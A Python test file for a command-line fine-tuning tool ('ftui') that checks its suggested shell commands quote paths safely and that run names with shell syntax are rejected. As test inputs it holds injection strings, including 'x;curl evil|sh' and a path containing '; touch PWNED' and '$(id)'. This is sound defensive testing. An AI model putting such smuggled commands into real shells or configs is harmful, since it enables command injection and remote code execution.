"""Commands ftui prints or copies for the user to paste mean what they say in a shell: paths are
quoted, and run names hold no shell syntax (a shared preset's `name = "x;curl evil|sh"` is refused)."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from engine.config.schema import ConfigError, RunConfig
from engine.runs import RunBusy
from tui.screens.export import ollama_line

NASTY = "/tmp/runs; touch PWNED/2026-12-06-0737-demo $(id)"


def test_the_ollama_line_pastes_as_the_files_it_names():
    line = ollama_line(NASTY, f"{NASTY}/export/Modelfile")
    assert shlex.split(line) == ["ollama", "create", "demo $(id)", "-f", f"{NASTY}/export/Modelfile"]


def test_the_advice_of_a_busy_run_pastes_as_its_folder():
    advice = RunBusy(Path(NASTY), 1234, "host").advice
    commands = [part.split("`")[0] for part in advice.split("`")[1::2]]
    assert [shlex.split(c) for c in advice.split("`")[1::2]] == [["ftui", "attach", NASTY], ["ftui", "stop", NASTY]]
    assert commands


def test_a_run_name_with_shell_syntax_is_refused_before_training():
    with pytest.raises(ConfigError) as raised:
        RunConfig(name="x;curl evil|sh").validate()
    assert "a run name holds letters, digits and . - _ + only" in str(raised.value)
